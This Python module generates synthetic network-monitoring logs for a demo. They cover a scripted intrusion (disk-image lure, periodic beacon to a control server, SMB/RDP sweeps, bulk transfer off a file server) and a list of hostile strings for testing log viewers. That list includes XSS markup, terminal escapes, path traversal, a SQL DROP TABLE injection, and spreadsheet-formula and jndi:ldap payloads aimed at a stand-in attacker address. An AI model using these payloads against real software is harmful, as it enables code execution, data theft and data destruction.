"""Who is in the demo network, and what happens there."""

from __future__ import annotations

import ipaddress
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import numpy as np
import numpy.typing as npt

START = 1_772_409_600_000_000_000  # Monday 2026-03-02T00:00:00Z, in nanoseconds
DAYS = 7

SECOND = 1_000_000_000
MINUTE, HOUR, DAY = 60 * SECOND, 3600 * SECOND, 86_400 * SECOND

Ints = npt.NDArray[np.int64]
Rows = npt.NDArray[np.void]
Bytes = npt.NDArray[np.uint8]


VICTIM, FILE_SERVER, RESOLVER = "10.1.4.17", "10.1.0.5", "10.1.0.2"
LURE, CONTROL = "203.0.113.66", "203.0.113.99"
SERVERS = (RESOLVER, FILE_SERVER, "10.1.0.11", "10.1.0.12", "10.1.0.20", "10.1.0.21")
_SYLLABLES = (
    *("al", "ber", "cor", "dan", "el", "fir", "gan", "hol", "ivo", "jun"),
    *("kel", "lor", "mar", "nor", "os", "pel", "qui", "ras", "sol", "tev"),
)

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 Version/18.3 Safari/605",
    "curl/8.12.1",
    "python-requests/2.32.3",
    "apt-http/2.9 (amd64)",
    "",
)
# Text by which attackers target readers of logs: markup, terminal escapes, reordered text,
# paths, formulas, and very long text.
HOSTILE = (
    "<script>window.__p=1</script>",
    '<img src=x onerror="window.__p=1">',
    "\x1b[2J\x1b[31mall clear\x1b[0m\x07",
    "invoice\u202efdp.exe",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\..\\cmd.exe",
    '=HYPERLINK("http://203.0.113.66/","open")',
    "${jndi:ldap://203.0.113.66/a}",
    "'; DROP TABLE events; --",
    "a\tb\nc\rd\x00e",
    "zero\u200bwidth\ufeff \U0001f980 \u00fc\u0308",
    "$name {x} %s %n",
    "long-" + "A" * 3000,
)
# signature id, text, category, severity, action; the first five are background noise
SIGNATURES = (
    (1000001, "DEMO Connection to a closed port", "Attempted Information Leak", 2, 1),
    (1000002, "DEMO Outdated client", "Potential Corporate Privacy Violation", 3, 0),
    (1000003, "DEMO Unusually long session", "Misc activity", 3, 0),
    (1000004, "DEMO Lookup of a dynamic name", "Potentially Bad Traffic", 3, 0),
    (1000005, "DEMO Cleartext where encryption is usual", "Potentially Bad Traffic", 2, 1),
    (2000001, "DEMO Disk image from a new domain", "A Network Trojan was detected", 1, 0),
    (2000002, "DEMO Certificate of a known control server", "A Network Trojan was detected", 1, 0),
    (2000003, "DEMO Access to the share ADMIN$", "Attempted Administrator Privilege Gain", 1, 0),
)
NOISE = 5
PROTOCOLS = {6: "tcp", 17: "udp", 1: "icmp"}
STATES = ("SF", "S0", "REJ", "RSTO")
HISTORIES = ("ShADadFf", "S", "Sr", "ShADadR", "Dd")  # by state, the last without TCP
SERVICES = ("dns", "http", "ssl", "smb", "rdp", "ssh", "ntp")


@dataclass(frozen=True, slots=True)
class World:
    """The hosts, and the strings in events."""

    clients: Bytes  # (2, n, 16): version 4 and 6
    domain_hosts: Bytes  # (2, n, 16)
    domains: tuple[str, ...]
    domain_addresses: tuple[str, ...]  # of all, version 4 first
    uris: tuple[str, ...]
    agents: tuple[str, ...]

    @property
    def lure(self) -> int:
        """The index of the story's first name; the names of the background come before."""
        return len(self.domains) - len(HOSTILE) - 2

    @classmethod
    def build(cls, seed: int) -> World:
        rng = np.random.default_rng([seed, 0xD0])
        clients = [f"10.1.{4 + i // 200}.{10 + i % 200}" for i in range(240)]
        names = _domain_names(rng, 900)
        hosts = [f"198.{18 + i % 2}.{i // 250}.{1 + i % 250}" for i in range(len(names))]
        # The names of the story and the hostile ones are last, where the background does not draw.
        names += ["invoice-portal.example", "cdn-metrics.example", *HOSTILE]
        hosts += [LURE, CONTROL, *[f"198.51.100.{1 + i}" for i in range(len(HOSTILE))]]
        return cls(
            _dual(clients, "fd00:1:4::"),
            _dual(hosts, "2001:db8::"),
            tuple(names),
            (*hosts, *(f"2001:db8::{1 + i:x}" for i in range(len(hosts)))),
            (*_uris(rng, 400), "/2026/03/invoice_8841.iso", *HOSTILE),
            (*AGENTS, "Updater/1.0", *HOSTILE),
        )


def _domain_names(rng: np.random.Generator, count: int) -> list[str]:
    names: dict[str, None] = {}
    while len(names) < count:
        word = "".join(rng.choice(_SYLLABLES, size=rng.integers(2, 4)))
        prefix = rng.choice(["www.", "", "cdn.", "api.", "mail."])
        names[f"{prefix}{word}.{rng.choice(['example', 'test'])}"] = None
    return list(names)


def _uris(rng: np.random.Generator, count: int) -> Iterator[str]:
    yield from ("/", "/favicon.ico", "/index.html")
    for number in rng.integers(0, 1 << 32, count):
        word = _SYLLABLES[number % 20] + _SYLLABLES[number // 20 % 20]
        yield (
            f"/static/{word}.{number:08x}.js",
            f"/api/v1/{word}/{number % 997}",
            f"/{word}/index.html",
            f"/search?q={word}&page={number % 9}",
        )[number % 4]


def packed(address: str) -> bytes:
    parsed = ipaddress.ip_address(address)
    return parsed.packed if parsed.version == 6 else b"\0" * 10 + b"\xff\xff" + parsed.packed


def _dual(addresses: list[str], prefix: str) -> Bytes:
    """Add an IPv6 address for every host."""
    four = [packed(address) for address in addresses]
    six = [packed(f"{prefix}{1 + number:x}") for number in range(len(addresses))]
    return np.frombuffer(b"".join(four + six), np.uint8).reshape(2, len(addresses), 16)


# Which events a session gives.
CONN, DNS, HTTP, FLOW, EVE_HTTP, ALERT = (1 << bit for bit in range(6))
SESSION = np.dtype(
    [
        ("ts", "i8"), ("uid", "S18"), ("flow_id", "u8"), ("events", "u1"),
        ("orig_h", "u1", 16), ("resp_h", "u1", 16), ("orig_p", "u2"), ("resp_p", "u2"),
        ("proto", "u1"), ("service", "i1"), ("state", "u1"), ("duration", "i8"),
        ("orig_bytes", "u8"), ("resp_bytes", "u8"), ("status", "u2"),
        ("domain", "i4"), ("uri", "i4"), ("agent", "i4"), ("signature", "i2"),
    ]
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class _Traffic:
    """Typical values of one kind of session."""

    share: float
    proto: int
    port: int
    service: int
    duration: int  # the median, in nanoseconds
    sent: int  # the medians, in bytes
    received: int
    inside: bool = False  # to a server of the office
    state: int = 0


_TRAFFIC = (
    _Traffic(0, 17, 53, 0, 12_000_000, 42, 130, inside=True),
    _Traffic(0, 6, 80, 1, 180_000_000, 420, 9_000),
    _Traffic(0.55, 6, 443, 2, 2_500_000_000, 2_400, 21_000),
    _Traffic(0.15, 17, 123, 6, 30_000_000, 48, 48),
    _Traffic(0.10, 6, 22, 5, 90 * SECOND, 9_000, 14_000, inside=True),
    _Traffic(0.08, 1, 0, -1, 400_000_000, 168, 168, inside=True),
    _Traffic(0.08, 6, 8080, -1, 0, 0, 0, inside=True, state=2),
    _Traffic(0.04, 6, 25, -1, 0, 0, 0, state=1),
)


def events_of(sessions: Rows) -> Ints:
    """Count the events that each session gives."""
    bits = np.unpackbits(sessions["events"][:, None], axis=1)
    return np.asarray(bits.sum(axis=1), np.int64)


def ends(sessions: Rows) -> Ints:
    return np.asarray(sessions["ts"] + np.maximum(sessions["duration"], 0), np.int64)


def times(quantiles: npt.NDArray[np.float64]) -> Ints:
    """Spread quantiles over the week: busy days, quiet nights, a quieter weekend."""
    day, hour = np.divmod(np.arange(24 * DAYS), 24)
    rush = np.exp(-(((hour - 13) / 4.0) ** 2)) * np.where(day < 5, 1.0, 0.2)
    cumulative = np.concatenate([[0.0], np.cumsum(0.1 + rush)])
    hours = np.interp(quantiles, cumulative / cumulative[-1], np.arange(24 * DAYS + 1))
    return START + (hours * HOUR).astype(np.int64)


def _zipf(rng: np.random.Generator, count: int, size: int) -> Ints:
    """Draw ranks with a Zipf distribution."""
    cumulative = np.cumsum(1.0 / np.arange(1, count + 1))
    return np.searchsorted(cumulative / cumulative[-1], rng.random(size))


def background(
    world: World, rng: np.random.Generator, events: int, span: tuple[float, float]
) -> Rows:
    """Create sessions in a part of the week that give exactly `events` events."""
    counts = {bit: events * share // 1000 for bit, share in _SHARES.items()}
    rows = np.zeros(events - sum(counts.values()), SESSION)
    size = len(rows)
    dns, web = counts[DNS], counts[HTTP]
    kinds = np.full(size, 2)
    kinds[:dns], kinds[dns : dns + web] = 0, 1
    other = size - dns - web
    shares = np.array([traffic.share for traffic in _TRAFFIC])
    kinds[dns + web :] = np.searchsorted(np.cumsum(shares), rng.random(other) * shares.sum())
    rows["events"] = CONN
    rows["events"][:dns] |= DNS
    rows["events"][dns : dns + web] |= HTTP
    rows["events"][dns : dns + counts[EVE_HTTP]] |= EVE_HTTP
    rows["signature"] = -1
    for bit in (FLOW, ALERT):
        chosen = rng.choice(size, counts[bit], replace=False)
        rows["events"][chosen] |= bit
    rows["ts"] = times(rng.uniform(*span, size))
    _fill(world, rng, rows, kinds)
    noise = 1 + _zipf(rng, NOISE - 1, len(chosen))
    rows["signature"][chosen] = np.where(rows["state"][chosen] == 2, 0, noise)
    return rows


# Per mille of the events; connections are the rest.
_SHARES = {DNS: 190, HTTP: 100, FLOW: 220, EVE_HTTP: 60, ALERT: 6}


def _fill(world: World, rng: np.random.Generator, rows: Rows, kinds: Ints) -> None:
    """Draw endpoints, durations and sizes."""
    size = len(rows)
    table = {
        name: np.array([getattr(traffic, name) for traffic in _TRAFFIC])[kinds]
        for name in ("proto", "port", "service", "duration", "sent", "received", "inside", "state")
    }
    clients = _zipf(rng, world.clients.shape[1], size)
    domains = _zipf(rng, world.lure, size)
    family = ((rng.random(size) < 0.1) & ~table["inside"]).astype(np.int64)
    servers = np.frombuffer(b"".join(map(packed, SERVERS)), np.uint8).reshape(-1, 16)
    server = np.where(table["service"] == 0, 0, rng.integers(0, len(servers), size))
    rows["orig_h"] = world.clients[family, clients]
    rows["resp_h"] = np.where(
        table["inside"][:, None], servers[server], world.domain_hosts[family, domains]
    )
    rows["domain"], rows["agent"] = domains, clients % len(AGENTS)
    rows["uri"] = _zipf(rng, len(world.uris) - 1 - len(HOSTILE), size)
    rows["orig_p"] = np.where(table["proto"] == 1, 8, rng.integers(32768, 61000, size))
    rows["resp_p"] = table["port"]
    for name in ("proto", "service", "state"):
        rows[name] = table[name]
    rows["state"] = np.where((rng.random(size) < 0.03) & (rows["proto"] == 6), 3, rows["state"])
    rows["duration"] = table["duration"] * rng.lognormal(0, 0.8, size)
    rows["orig_bytes"] = table["sent"] * rng.lognormal(0, 0.5, size)
    rows["resp_bytes"] = table["received"] * rng.lognormal(0, 1.1, size)
    answers = np.where(table["service"] == 0, [[0], [0], [3]], [[200], [304], [404]])
    pick = np.searchsorted([0.85, 0.93, 1.0], rng.random(size))
    rows["status"] = answers[pick, np.arange(size)]
    identify(rng, rows)


_BASE62 = np.frombuffer(b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", np.uint8)


def identify(rng: np.random.Generator, rows: Rows) -> None:
    letters = _BASE62[rng.integers(0, 62, (len(rows), 18))]
    letters[:, 0] = ord("C")
    rows["uid"] = np.ascontiguousarray(letters).view("S18")[:, 0]
    rows["flow_id"] = rng.integers(1 << 48, 1 << 63, len(rows), np.uint64)


def fixed_sessions(world: World) -> Rows:
    """Create the sessions that do not depend on the size, the most important first."""
    lure = world.lure
    defaults: dict[str, Any] = {
        "orig_h": VICTIM, "resp_h": CONTROL, "orig_p": 50_000, "resp_p": 443, "proto": 6,
        "service": 2, "state": 0, "duration": 300_000_000, "orig_bytes": 600,
        "resp_bytes": 900, "status": 200, "domain": lure, "uri": -len(HOSTILE) - 1,
        "agent": -len(HOSTILE) - 1, "signature": -1, "events": CONN | FLOW,
    }  # fmt: skip
    story = [*_intrusion(lure), *_edge_cases(lure + 2), *_beacon(lure + 1)]
    rows = np.zeros(len(story), SESSION)
    for number, changes in enumerate(story):
        values = defaults | {"orig_p": 50_000 + number} | changes
        for name, value in values.items():
            address = name in ("orig_h", "resp_h")
            rows[name][number] = np.frombuffer(packed(value), np.uint8) if address else value
    for name, pool in (("uri", world.uris), ("agent", world.agents)):
        rows[name] = np.where(rows[name] < 0, rows[name] + len(pool), rows[name])
    identify(np.random.default_rng(1), rows)
    return rows


def at(day: int, hour: int, minute: int, second: float = 0.0) -> int:
    return START + day * DAY + hour * HOUR + minute * MINUTE + int(second * SECOND)


_LOOKUP: dict[str, Any] = {
    "resp_h": RESOLVER, "resp_p": 53, "proto": 17, "service": 0, "status": 0,
    "duration": 23_000_000, "orig_bytes": 48, "resp_bytes": 64, "events": CONN | DNS | FLOW,
}  # fmt: skip
_FETCH: dict[str, Any] = {
    "resp_h": LURE, "resp_p": 80, "service": 1, "events": CONN | HTTP | FLOW | EVE_HTTP,
}  # fmt: skip


def _intrusion(lure: int) -> Iterator[dict[str, Any]]:
    """Yield the sessions of the story, except for the beacon."""
    yield _LOOKUP | {"ts": at(2, 9, 42, 13.0741)}
    yield _FETCH | {
        "ts": at(2, 9, 42, 13.1312), "resp_bytes": 1_474_560, "duration": 2_100_000_000,
        "signature": NOISE, "events": _FETCH["events"] | ALERT,
    }  # fmt: skip
    yield _LOOKUP | {"ts": at(2, 9, 49, 58), "domain": lure + 1}
    yield {
        "ts": at(2, 9, 50), "domain": lure + 1, "signature": NOISE + 1,
        "events": CONN | FLOW | ALERT,
    }  # fmt: skip
    for number, server in enumerate(SERVERS[1:]):
        for step, (port, service) in enumerate(((445, 3), (3389, 4))):
            yield {
                "ts": at(3, 2, 10 + 2 * number + step, 7.5), "resp_h": server, "resp_p": port,
                "service": service, "orig_bytes": 40_000 + number, "resp_bytes": 90_000,
                "duration": 45 * SECOND,
                **({"signature": NOISE + 2, "events": CONN | FLOW | ALERT} if not step else {}),
            }  # fmt: skip
    yield {
        "ts": at(4, 1, 30, 0.25), "orig_h": FILE_SERVER, "orig_bytes": 5_051_243_882,
        "resp_bytes": 812_004, "duration": 47 * MINUTE,
    }  # fmt: skip


def _beacon(control: int) -> Iterator[dict[str, Any]]:
    """Connect to the control server every ten minutes until Friday evening, with 30 s of jitter."""
    jitter = np.random.default_rng(2).integers(-30 * SECOND, 30 * SECOND, 366)
    for number, shift in enumerate(jitter):
        start = at(2, 10, 0) + number * 10 * MINUTE + int(shift)
        yield {"ts": start, "domain": control, "orig_bytes": 590 + number % 7}


def _edge_cases(first: int) -> Iterator[dict[str, Any]]:
    """Yield sessions with edge cases."""
    start = at(1, 15, 0, 0.000_000_001)
    for number in range(len(HOSTILE)):
        text = number - len(HOSTILE)
        host = {"ts": start + number * MINUTE, "orig_h": "10.1.4.23", "domain": first + number}
        yield _LOOKUP | host
        yield _FETCH | host | {"resp_h": f"198.51.100.{1 + number}", "uri": text, "agent": text}
    numbers = (0, 1, (1 << 53) + 1, (1 << 63) - 1, 1 << 63, (1 << 64) - 1)
    durations = (-1_000, 1, 999, 0, 86_400 * SECOND * 3 + 7, 1_000)
    for number, (size, duration) in enumerate(zip(numbers, durations, strict=True)):
        yield {
            "ts": start + HOUR + number, "orig_h": "::1", "resp_h": "::1", "resp_p": number,
            "service": -1, "orig_bytes": size, "duration": duration,
        }  # fmt: skip
